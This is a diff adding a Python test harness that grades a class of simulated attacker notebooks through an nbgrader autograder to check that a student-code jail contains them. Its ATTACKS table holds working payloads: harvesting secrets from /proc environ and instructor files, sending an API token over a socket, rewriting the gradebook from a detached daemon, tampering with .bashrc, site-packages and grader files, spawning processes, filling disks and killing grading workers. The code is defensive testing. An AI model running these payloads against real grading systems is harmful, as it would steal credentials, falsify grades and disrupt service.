@@ -1,0 +1,468 @@
+"""A class of attackers and one honest student, graded for real, judged by what happened to the machine.
+
+Each attacker hands in the reference solution plus an attack, appended to its
+``dropout`` solution cell, that runs either in the graded kernel or in the
+verification sandbox (the same cell runs in both; the attack checks where it
+is). The attacks are ordinary Python of the kinds the threat model names:
+read what it should not and leak it into its own feedback, talk to the network,
+rewrite the gradebook (at once and from a daemon that outlives grading), edit
+the grader, the course and the grader's home, overwrite a classmate's files,
+leave processes behind, fill the disk, and kill the other grading workers (last, in the order grading takes them: unjailed it breaks the pool).
+
+:func:`grade` runs the class through ``instructors.grade_class`` and then a
+subset through ``nbgrader autograde``, waits for stragglers, and
+:func:`consequences` lists every harm it can find on the machine: never the
+attackers' scores. With the jail on every list must be empty; with it off
+(``tests/test_jail.py``'s mutation check) every one must not be. Off, the
+attacks on the grader's code and site-packages are pointed at decoys, so that
+the mutation check cannot damage this checkout.
+"""
+from __future__ import annotations
+
+import hashlib
+import json
+import os
+import secrets
+import signal
+import socket
+import sys
+import threading
+import time
+from dataclasses import dataclass, field
+from pathlib import Path
+
+import nbformat
+
+from instructors.course import Course
+from instructors.demo import hand_in
+from instructors.grade_class import ClassGrading, db_url, grade_class
+from instructors.submissions import Sample
+
+NAME = "dropout_from_scratch"
+REPO = Path(__file__).resolve().parents[1]
+SITE_PACKAGES = Path(next(p for p in sys.path if p.endswith("site-packages")))
+#: The daemons some attacks leave behind strike this often (for five minutes at most).
+DAEMON_DELAY = 1.0
+#: The attackers graded a second time by the plain `nbgrader autograde` command (a glob of
+#: student ids): those who rewrite the gradebook, edit the grader or signal the graders.
+BY_NBGRADER = "*_the_g*-1"
+
+# --- the attacks ----------------------------------------------------------------------------
+# Each is the body of a function that the notebook calls; CTX holds what a student could
+# find out (paths, the port of the hub's API), RESULT what it reports in its own output.
+
+ATTACKS = {
+    "reads_secrets": r'''
+import glob, re
+hits, places = set(), [CTX["course"] + "/instructor_notes.txt", CTX["home"] + "/.secret",
+                       CTX["classmate_submission"], CTX["gradebook"]]
+places += glob.glob(CTX["course"] + "/submitted/*/*/*.ipynb") + glob.glob(CTX["course"] + "/source/*/*.ipynb")
+places += glob.glob("/proc/*/environ") + glob.glob("/tmp/dropout-kernel-*/kernel.json")
+for place in places:
+    try:
+        with open(place, errors="replace") as f:
+            hits.update(re.findall(r"CANARY-[0-9a-f]{12}", f.read()))
+    except OSError:
+        pass
+hits.update(v for v in os.environ.values() if "CANARY" in v)
+RESULT.append("leaked: " + " ".join(sorted(hits)))
+''',
+    "phones_home": r'''
+import socket
+for host in ("127.0.0.1", "::1", "localhost"):
+    try:
+        with socket.create_connection((host, CTX["port"]), timeout=2) as s:
+            s.sendall(("token " + os.environ.get("JUPYTERHUB_API_TOKEN", "none")).encode())
+        RESULT.append("sent to " + host)
+    except OSError as error:
+        RESULT.append(f"no connection to {host}: {error}")
+''',
+    "rewrites_the_gradebook": r'''
+import sqlite3
+def rewrite(change):
+    db = sqlite3.connect(CTX["gradebook"], timeout=30)
+    db.execute(f"UPDATE grade SET {change}")
+    db.commit()
+    db.close()
+try:
+    rewrite("auto_score = 0, manual_score = 0")  # everyone fails
+    RESULT.append("gradebook rewritten")
+except Exception as error:
+    RESULT.append(f"gradebook out of reach: {error}")
+daemon(lambda: rewrite("manual_score = COALESCE(manual_score, 0) + 1 WHERE id IN (SELECT id FROM grade LIMIT 1)"))
+''',
+    "edits_the_grader": r'''
+targets = CTX["grader_files"] + [CTX["course"] + "/nbgrader_config.py", CTX["site_packages"] + "/canary_evil.pth",
+           CTX["home"] + "/.bashrc", CTX["home"] + "/.ipython/profile_default/startup/00-canary.py",
+           CTX["home"] + "/.jupyter/jupyter_server_config.py"]
+targets += glob.glob(CTX["course"] + "/source/*/*.ipynb") + glob.glob(CTX["course"] + "/release/*/*.ipynb")
+for target in targets:
+    try:
+        os.makedirs(os.path.dirname(target), exist_ok=True)
+        with open(target, "a") as f:
+            f.write("\n# CANARY-TAMPERED\n")
+        RESULT.append("wrote " + target)
+    except OSError as error:
+        RESULT.append(f"blocked {target}: {error.strerror}")
+''',
+    "overwrites_a_classmate": r'''
+for kind in ("submitted", "autograded", "feedback"):
+    for target in glob.glob(f"{CTX['course']}/{kind}/{CTX['classmate']}/*/*"):
+        try:
+            with open(target, "a") as f:
+                f.write("CANARY-TAMPERED")
+            RESULT.append("overwrote " + target)
+        except OSError as error:
+            RESULT.append(f"blocked {target}: {error.strerror}")
+def later():
+    for target in glob.glob(f"{CTX['course']}/*/{CTX['classmate']}/*/*"):
+        with open(target, "a") as f:
+            f.write("CANARY-TAMPERED")
+daemon(later)
+''',
+    "leaves_processes": r'''
+import subprocess
+started = 0
+for _ in range(600):
+    try:
+        subprocess.Popen(["bash", "-c", "exec -a canary-sleeper sleep 600"], start_new_session=True,
+                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+        started += 1
+    except OSError:
+        break
+RESULT.append(f"started {started} processes")
+''',
+    "fills_the_disk": r'''
+written = 0
+for where in (".", "/tmp", CTX["course"]):
+    for i in range(12):
+        try:
+            with open(f"{where}/fill-canary-{i}", "wb") as f:
+                f.write(bytes(32 * 2**20))
+            written += 32
+        except OSError as error:
+            RESULT.append(f"disk full in {where} after {written} MiB: {error.strerror}")
+            break
+RESULT.append(f"wrote {written} MiB")
+''',
+    "signals_the_graders": r'''
+import signal
+killed = []
+for pid in os.listdir("/proc"):
+    if pid.isdigit() and int(pid) != os.getpid():
+        try:
+            command = open(f"/proc/{pid}/cmdline", "rb").read()
+            if b"multiprocessing" in command:  # the grading workers (their zygotes die with them)
+                os.kill(int(pid), signal.SIGKILL)
+                killed.append(pid)
+        except OSError:
+            pass
+RESULT.append(f"killed {killed}")
+''',
+}
+
+PRELUDE = r'''
+import glob, json, os, sys, time
+CTX = json.loads({ctx!r})
+RESULT = []
+def daemon(strike):
+    """Strike again after grading, from a process of its own that no one waits for."""
+    if os.fork() == 0:
+        os.setsid()
+        if os.fork() == 0:
+            null = os.open(os.devnull, os.O_RDWR)
+            for fd in (0, 1, 2):
+                os.dup2(null, fd)
+            os.closerange(3, 4096)  # a daemon holds nothing of its parent's
+            try:
+                import ctypes
+                ctypes.CDLL(None).prctl(15, b"canary-daemon")
+                for _ in range(300):
+                    time.sleep(CTX["delay"])
+                    try:
+                        strike()
+                    except Exception:
+                        pass
+            finally:
+                os._exit(0)
+        os._exit(0)
+    os.wait()
+def attack():
+{body}
+if ("kernel" if type(get_ipython()).__name__ == "ZMQInteractiveShell" else "sandbox") == CTX["where"]:
+    try:
+        attack()
+    except BaseException as error:
+        RESULT.append(f"attack stopped: {{type(error).__name__}}: {{error}}")
+    print("\n".join(RESULT))
+    if CTX["where"] == "sandbox" and any("CANARY-" in r for r in RESULT):
+        _leak = " ".join(RESULT)
+        def dropout(x, p=0.5, training=True, inplace=False):  # the sandbox's verdicts reach the feedback
+            raise RuntimeError(_leak)
+'''
+
+
+def attack_source(attack: str, where: str, ctx: dict) -> str:
+    body = "\n".join("    " + line for line in ATTACKS[attack].strip("\n").splitlines())
+    return PRELUDE.format(ctx=json.dumps({**ctx, "where": where}), body=body)
+
+
+# --- the class and its grading --------------------------------------------------------------
+
+
+@dataclass
+class Run:
+    """One graded class: what was planted, what grading said, and the machine afterwards."""
+    course: Course
+    jailed: bool
+    marks: dict[str, str]
+    honest: str
+    attackers: list[str]
+    listener: "Listener"
+    guarded: dict[str, Path]
+    before: dict[str, dict]
+    outcome: ClassGrading | None = None
+    nbgrader_returncode: int | None = None
+    gradebook_after_grading: dict = field(default_factory=dict)
+    consequences: dict[str, list[str]] = field(default_factory=dict)
+
+
+class Listener:
+    """A TCP server on loopback (IPv4 and IPv6) that records every connection it gets."""
+
+    def __init__(self):
+        self.received: list[bytes] = []
+        self.sockets = [socket.create_server(("127.0.0.1", 0))]
+        self.port = self.sockets[0].getsockname()[1]
+        try:
+            self.sockets.append(socket.create_server(("::1", self.port), family=socket.AF_INET6))
+        except OSError:
+            pass
+        for s in self.sockets:
+            threading.Thread(target=self._serve, args=(s,), daemon=True).start()
+
+    def _serve(self, server: socket.socket) -> None:
+        while True:
+            try:
+                conn, _ = server.accept()
+            except OSError:
+                return
+            with conn:
+                conn.settimeout(2)
+                try:
+                    self.received.append(conn.recv(4096) or b"(connected)")
+                except OSError:
+                    self.received.append(b"(connected)")
+
+    def close(self) -> None:
+        for s in self.sockets:
+            s.close()
+
+
+def _fingerprint(root: Path, content: bool = True, skip=()) -> dict[str, str]:
+    """path -> hash of every file under ``root`` (or size and mtime, for big trees)."""
+    seen = {}
+    for folder, dirs, files in os.walk(root):
+        dirs[:] = [d for d in dirs if os.path.join(folder, d) not in skip and d != "__pycache__"]
+        for name in files:
+            path = os.path.join(folder, name)
+            try:
+                if content:
+                    seen[path] = hashlib.sha256(Path(path).read_bytes()).hexdigest()
+                else:
+                    info = os.lstat(path)
+                    seen[path] = f"{info.st_size}:{info.st_mtime_ns}"
+            except OSError as error:
+                seen[path] = f"unreadable: {error}"
+    return seen
+
+
+def _gradebook(course: Course) -> dict:
+    from nbgrader.api import Gradebook
+
+    rows = {}
+    with Gradebook(db_url(course.root)) as gradebook:
+        for submission in gradebook.assignment_submissions(NAME):
+            for notebook in submission.notebooks:
+                for grade in notebook.grades:
+                    rows[(submission.student.id, grade.cell.name)] = (grade.auto_score, grade.manual_score)
+    return rows
+
+
+def canary_processes() -> list[str]:
+    found = []
+    for pid in os.listdir("/proc"):
+        if not pid.isdigit():
+            continue
+        try:
+            comm = Path(f"/proc/{pid}/comm").read_text()
+            command = Path(f"/proc/{pid}/cmdline").read_bytes()
+        except OSError:
+            continue
+        if "canary" in comm or b"canary-sleeper" in command.split(b"\0")[0]:
+            found.append(f"{pid} {comm.strip()}")
+    return found
+
+
+def kill_canary_processes() -> None:
+    for line in canary_processes():
+        try:
+            os.kill(int(line.split()[0]), signal.SIGKILL)
+        except OSError:
+            pass
+
+
+def build(workdir: Path, jailed: bool) -> Run:
+    """The course, the class and everything the attackers will be judged against."""
+    course = Course.copy_of_this_course(workdir / "course")
+    with open(course.root / "nbgrader_config.py", "a") as f:
+        f.write("\nc.GuardedExecute.timeout = 30\nc.VerifyChecks.load_timeout = 30\n")
+        if not jailed:
+            f.write("c.StudentCodeJail.enabled = False\n")
+    home = workdir / "grader-home"
+    home.mkdir()
+    marks = {k: f"CANARY-{secrets.token_hex(6)}" for k in ("notes", "home", "classmate", "token")}
+    (course.root / "instructor_notes.txt").write_text(f"answer key {marks['notes']}\n")
+    (home / ".secret").write_text(marks["home"])
+    (home / ".bashrc").write_text("# the grader's shell\n")
+    guarded = {"course": course.root, "home": home}
+    if jailed:
+        guarded.update(autograder=REPO / "autograder", instructors=REPO / "instructors")
+        grader_files = [str(REPO / "autograder" / "__init__.py"), str(REPO / "instructors" / "__init__.py")]
+        site_packages = SITE_PACKAGES
+    else:  # decoys: the mutation check must not damage this checkout
+        decoy = workdir / "decoy"
+        (decoy / "site-packages").mkdir(parents=True)
+        grader_files = []
+        for package in ("autograder", "instructors"):
+            (decoy / package).mkdir()
+            (decoy / package / "__init__.py").write_text((REPO / package / "__init__.py").read_text())
+            grader_files.append(str(decoy / package / "__init__.py"))
+        site_packages = decoy / "site-packages"
+        guarded["decoy"] = decoy
+    course.nbgrader("generate_assignment", NAME, "--force")
+    listener = Listener()
+    honest = Sample("honest", "the reference answers", {"+dropout_function": f"# {marks['classmate']}\n"})
+    ctx = {"course": str(course.root), "home": str(home), "gradebook": str(course.root / "gradebook.db"),
+           "classmate": "honest-1", "classmate_submission": str(course.submission_path("honest-1", NAME)),
+           "grader_files": grader_files, "site_packages": str(site_packages), "port": listener.port,
+           "delay": DAEMON_DELAY}
+    attackers = [Sample(f"{attack}-{where}", f"{attack} from the {where}",
+                        {"+dropout_function": attack_source(attack, where, ctx)})
+                 for attack in ATTACKS for where in ("kernel", "sandbox")]
+    roster = hand_in(course, NAME, [honest, *attackers])
+    before = {"files": {k: _fingerprint(v, skip={str(course.root / ".jupyter-private"), str(course.root / "logs")})
+                        for k, v in guarded.items()},
+              "site_packages": _fingerprint(SITE_PACKAGES, content=False)}
+    return Run(course, jailed, marks, "honest-1", [s for s in roster if s != "honest-1"], listener,
+               guarded, before)
+
+
+def grade(run: Run) -> Run:
+    """Grade the class as an instructor would, wait for stragglers, then look at the machine."""
+    env = {"HOME": str(run.guarded["home"]), "JUPYTERHUB_API_TOKEN": run.marks["token"],
+           "JPY_API_TOKEN": run.marks["token"]}
+    saved = {k: os.environ.get(k) for k in env}
+    os.environ.update(env)
+    try:
+        run.outcome = grade_class(run.course, NAME, jobs=2, progress=False)
+        run.gradebook_after_grading = _gradebook(run.course)
+        nbgrader = run.course.nbgrader("autograde", NAME, "--force", f"--student={BY_NBGRADER}",
+                                       check=False)
+        run.nbgrader_returncode = nbgrader.returncode
+        run.course.nbgrader("generate_feedback", NAME, "--force", check=False)
+        run.gradebook_after_nbgrader = _gradebook(run.course)
+        time.sleep(3 * DAEMON_DELAY)  # a daemon left alive has struck again by now
+        run.consequences = consequences(run)
+    finally:
+        for k, v in saved.items():
+            if v is None:
+                os.environ.pop(k, None)
+            else:
+                os.environ[k] = v
+        run.listener.close()
+    return run
+
+
+def consequences(run: Run) -> dict[str, list[str]]:
+    """Every harm found on the machine, by kind; an empty list where there is none."""
+    from nbgrader.utils import determine_grade
+
+    course = run.course.root
+    found: dict[str, list[str]] = {}
+    # The honest student is graded as ever: the reference answers score 30 of the 30 autograded points.
+    honest = {cell: s for (student, cell), s in _gradebook(run.course).items() if student == run.honest}
+    score = sum(a or 0 for a, m in honest.values())
+    found["honest_grade"] = [] if score == 30 else [f"the honest student scored {score}, not 30"]
+    # Every row agrees with the autograded notebook it came from, and none changed after grading.
+    now = _gradebook(run.course)
+    mismatched = []
+    for student in [run.honest, *run.attackers]:
+        path = course / "autograded" / student / NAME / f"{NAME}.ipynb"
+        try:
+            nb = nbformat.read(path, as_version=4)
+        except Exception as error:  # noqa: BLE001 - a corrupted notebook is a finding
+            mismatched.append(f"{student}: autograded notebook unreadable ({type(error).__name__})")
+            continue
+        for cell in nb.cells:
+            meta = cell.metadata.get("nbgrader", {})
+            if meta.get("grade") and not meta.get("solution") and cell.cell_type == "code":
+                points, _ = determine_grade(cell, None)
+                row = now.get((student, meta["grade_id"]))
+                if row is None or row[0] != points:
+                    mismatched.append(f"{student}/{meta['grade_id']}: gradebook {row}, notebook {points}")
+    found["gradebook_matches_notebooks"] = mismatched
+    found["gradebook_unchanged_after_grading"] = [
+        f"{key}: {run.gradebook_after_nbgrader.get(key)} -> {value}" for key, value in now.items()
+        if run.gradebook_after_nbgrader.get(key) != value]
+    # Every guarded file is as it was (grading's own folders excepted), and nothing was added.
+    changed = []
+    for kind, root in run.guarded.items():
+        # Grading's own output, and the grader's own caches (matplotlib's font list).
+        skip = {str(course / d) for d in (".jupyter-private", "logs", "autograded", "feedback", "reports")}
+        skip.add(str(run.guarded["home"] / ".cache"))
+        after = _fingerprint(root, skip=skip | {str(course / "gradebook.db")})
+        for path in sorted(set(run.before["files"][kind]) | set(after)):
+            if Path(path).name in ("gradebook.db", "grades.csv") or any(path.startswith(s) for s in skip):
+                continue
+            if run.before["files"][kind].get(path) != after.get(path):
+                changed.append(f"{kind}: {path}")
+    site_after, site_before = _fingerprint(SITE_PACKAGES, content=False), run.before["site_packages"]
+    changed += [f"site-packages: {p}" for p in sorted(set(site_after) | set(site_before))
+                if site_after.get(p) != site_before.get(p)]
+    changed += [f"classmate's {p.relative_to(course)}" for kind in ("autograded", "feedback")
+                for p in (course / kind / run.honest).rglob("*") if p.is_file() and b"CANARY-TAMPERED" in p.read_bytes()]
+    found["files_unchanged"] = changed
+    # Nothing the attackers started is alive, and nothing they wrote filled a disk.
+    found["no_process_left"] = canary_processes()
+    big = [str(p) for p in course.rglob("fill-canary-*")] + [str(p) for p in Path("/tmp").glob("fill-canary-*")]
+    found["no_disk_filled"] = big
+    # No secret reached any attacker's own notebook or feedback.
+    leaks = []
+    for student in run.attackers:
+        for kind in ("autograded", "feedback"):
+            for path in (course / kind / student).rglob("*"):
+                if path.is_file():
+                    text = path.read_text(errors="replace")
+                    leaks += [f"{student} {kind}: {k}" for k, mark in run.marks.items() if mark in text]
+    found["no_secret_leaked"] = leaks
+    found["listener_got_nothing"] = [repr(r[:60]) for r in run.listener.received]
+    # Every student was graded: no worker was killed under a classmate.
+    outcome = run.outcome
+    found["every_student_graded"] = ([f"{s}: {why.splitlines()[-1] if why else ''}" for s, why in outcome.failed.items()]
+                                     + ([f"nbgrader autograde exit {run.nbgrader_returncode}"]
+                                        if run.nbgrader_returncode else []))
+    return found
+
+
+def clean_up(run: Run) -> None:
+    """After a run without the jail: what the attackers left on the machine."""
+    kill_canary_processes()
+    for path in Path("/tmp").glob("fill-canary-*"):
+        path.unlink(missing_ok=True)
+    for path in run.course.root.rglob("fill-canary-*"):
+        path.unlink(missing_ok=True)
+
+
+KINDS = ["honest_grade", "gradebook_matches_notebooks", "gradebook_unchanged_after_grading", "files_unchanged",
+         "no_process_left", "no_disk_filled", "no_secret_leaked", "listener_got_nothing", "every_student_graded"]
